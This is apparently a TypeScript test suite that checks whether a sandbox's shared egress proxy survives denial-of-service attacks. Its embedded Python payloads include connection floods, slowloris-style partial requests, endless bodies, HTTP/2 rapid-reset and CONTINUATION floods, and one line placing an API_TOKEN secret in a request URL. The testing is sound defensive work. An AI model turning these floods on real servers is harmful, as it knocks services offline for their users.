import { readFile } from 'node:fs/promises';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackGroup } from '../../attack.ts';
import { type NetworkArena, newMark } from '../arena.ts';

/**
 * What a thread beside it may wait while one sandbox does its worst: at least this, and this often what the same turn
 * takes on this machine while nobody does.
 */
const patience = { leastMs: 20_000, often: 10 };
/** Long enough for whoever is served at all. */
const short = { leastMs: 5_000, often: 3 };
/** What egress may grow by meanwhile. */
const growthMb = 400;

async function residentMb(arena: NetworkArena): Promise<number> {
  const status = await readFile(`/proc/${arena.stage.egress().pid}/status`, 'utf8').catch(() => '');
  return Number(/VmRSS:\s+(\d+) kB/.exec(status)?.[1] ?? 0) / 1024;
}

/** Is somebody else served meanwhile, and does egress keep its size? */
function harms(
  name: string,
  begin: (arena: NetworkArena) => Promise<() => Promise<unknown>>,
  { leastMs, often } = patience,
): Attack<NetworkArena> {
  let harmed = false;
  return {
    name,
    run: async (arena) => {
      const waitMs = Math.max(leastMs, often * (await arena.pace()));
      const before = await residentMb(arena);
      const end = await begin(arena);
      const mark = newMark();
      // A name that nobody has asked for yet: looking names up is a service too.
      const url = `http://${mark}.open.test/${mark}`;
      const honest = `IDLE = ${waitMs / 1_000}; time.sleep(0.5); get('${url}')`;
      const bystander = arena.attempt(honest, { thread: 'bystander', by: 'ben' });
      await Promise.race([bystander.catch(() => {}), sleep(waitMs)]);
      const served = (await arena.seen()).some((one) => one.kind === 'request' && one.url.includes(mark));
      harmed = !served || (await residentMb(arena)) - before > growthMb;
      await end();
      await bystander;
    },
    observed: async () => harmed,
  };
}

/** Goes on for about two seconds. */
const floods = (name: string, python: string) =>
  harms(name, async (arena) => {
    const code = `until = time.time() + 2\n${python}`;
    const { turnId } = await arena.begin(code, { thread: 'flood' });
    return () => arena.stage.ended(turnId);
  });
/** Opens connections as fast as it can and does this with each. */
const many = (name: string, each: string, at = 300) =>
  floods(
    name,
    `held = []
def one():
  while time.time() < until:
    try:
${each.replace(/^/gm, '      ')}
    except OSError: time.sleep(0.01)
several = [threading.Thread(target=one, daemon=True) for _ in range(${at})]
for each in several: each.start()
for each in several: each.join(3)`,
  );
const http2 = (name: string, each: string) =>
  floods(
    name,
    `s = h2('open.test:443'); s.settimeout(0.2); n = 1
def drain():
  try:
    while s.recv(65536): pass
  except (OSError, ValueError): pass
threading.Thread(target=drain, daemon=True).start()
try:
  while time.time() < until:
    s.sendall(${each})
    n += 2
except (OSError, ValueError) as error: print(repr(error))`,
  );
const ask = `frame(1, 4, n, fields(*asks('open.test')))`;
const endless = (name: string, path: string) =>
  floods(
    name,
    `several = [tls('open.test:443') for _ in range(8)]
for one in several: one.sendall(b'GET ${path} HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n')
while time.time() < until:
  for one in several:
    one.settimeout(0.05)
    try: one.recv(1 << 20)
    except (OSError, ValueError): pass`,
  );

/** One sandbox, or a server it speaks to, against everybody else's way out. */
export const denial: AttackGroup<NetworkArena> = {
  name: 'floods',
  harm: 'crash',
  control: harms(
    'egress is stopped by the host',
    async ({ stage }) => {
      stage.egress().kill('SIGSTOP');
      return async () => stage.egress().kill('SIGCONT');
    },
    short,
  ),
  attacks: [
    many('connections', 'held.append(knock())'),
    many(
      'half a request',
      "k = knock(); k.sendall(b'GET http://open.test/ HTTP/1.1\\r\\nX: '); held.append(k)",
    ),
    many('TLS greetings', "held.append(tls('open.test:443'))", 20),
    many(
      'TLS greetings that are cut off',
      "t = tunnel('open.test:443'); t.sendall(b'\\x16\\3\\1\\2\\0\\1\\0\\1\\xfc\\3\\3'); held.append(t)",
      50,
    ),
    many('names', "get(f'http://n{time.time_ns()}.open.test/')", 20),
    many('refusals', "get('http://evil.test/')", 20),
    many('placeholders in the wrong place', "get('http://open.test/' + os.environ['API_TOKEN'])", 20),
    many(
      'questions',
      "k = knock(); h = f'q{time.time_ns()}.ask.test'; k.sendall(f'GET http://{h}/ HTTP/1.1\\r\\nHost: {h}\\r\\n\\r\\n'.encode()); held.append(k)",
      20,
    ),
    floods(
      'one line after another, slowly',
      "several = [knock() for _ in range(300)]\nfor one in several: one.sendall(b'GET http://open.test/ HTTP/1.1\\r\\n')\nwhile time.time() < until:\n  for one in several:\n    try: one.sendall(b'X: y\\r\\n')\n    except OSError: pass\n  time.sleep(0.05)",
    ),
    floods(
      'pipelined requests',
      "k = knock()\ntry:\n  while time.time() < until: k.sendall(b'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' * 100)\nexcept OSError as error: print(error)",
    ),
    floods(
      'a head without end',
      "k = knock(); k.sendall(b'GET http://open.test/ HTTP/1.1\\r\\n')\ntry:\n  while time.time() < until: k.sendall(b'X: ' + b'y' * 8000 + b'\\r\\n')\nexcept OSError as error: print(error)",
    ),
    floods(
      'a body without end',
      "k = knock(); k.sendall(b'POST http://open.test/silence HTTP/1.1\\r\\nHost: open.test\\r\\nContent-Length: 99999999999\\r\\n\\r\\n'); k.settimeout(0.2)\ntry:\n  while time.time() < until: k.sendall(bytes(1 << 16))\nexcept OSError as error: print(error)",
    ),
    floods(
      'chunks of one byte',
      "k = knock(); k.sendall(b'POST http://open.test/silence HTTP/1.1\\r\\nHost: open.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'); k.settimeout(0.2)\ntry:\n  while time.time() < until: k.sendall(b'1\\r\\nx\\r\\n' * 5000)\nexcept OSError as error: print(error)",
    ),
    floods(
      'answers that nobody reads',
      "several = []\nfor _ in range(50):\n  k = knock(); k.sendall(b'GET http://open.test/endless HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n'); several.append(k)\nwhile time.time() < until: time.sleep(0.1)",
    ),
    endless('provisional answers without end', '/hints'),
    endless('headers without end', '/headers'),
    endless('an answer without end', '/endless'),
    endless('chunks that are all extension', '/chunks'),
    http2('HTTP/2: settings', 'frame(4, 0, 0) * 500'),
    http2('HTTP/2: pings', 'frame(6, 0, 0, bytes(8)) * 500'),
    http2(
      'HTTP/2: streams that are reset at once',
      `b''.join(frame(1, 4, m, fields(*asks('open.test'))) + frame(3, 0, m, bytes(4)) for m in range(n, n + 200, 2))`,
    ),
    http2('HTTP/2: streams without end', ask),
    http2(
      'HTTP/2: a head without end',
      `(frame(1, 0, 1, fields(*asks('open.test'))) if n == 1 else b'') + frame(9, 0, 1, fields(('x', 'y' * 4000)))`,
    ),
    http2(
      'HTTP/2: empty continuations',
      `(frame(1, 0, 1, fields(*asks('open.test'))) if n == 1 else b'') + frame(9, 0, 1) * 500`,
    ),
    http2('HTTP/2: windows', 'frame(8, 0, 0, struct.pack(">I", 0x7fffffff)) * 10'),
    http2('HTTP/2: priorities', 'frame(2, 0, n, struct.pack(">IB", n + 2, 1)) * 200'),
    http2('HTTP/2: frames of no kind', 'frame(200, 0, 0, bytes(1000)) * 20'),
    http2(
      'HTTP/2: a frame that is too long',
      "struct.pack('>I', 0xffffff)[1:] + b'\\0\\0\\0\\0\\0\\1' + bytes(1 << 16)",
    ),
    http2('HTTP/2: a push from the client', `${ask} + frame(5, 4, n, struct.pack('>I', 2))`),
    http2('HTTP/2: data for nobody', 'frame(0, 0, n, bytes(1000)) * 20'),
  ],
};
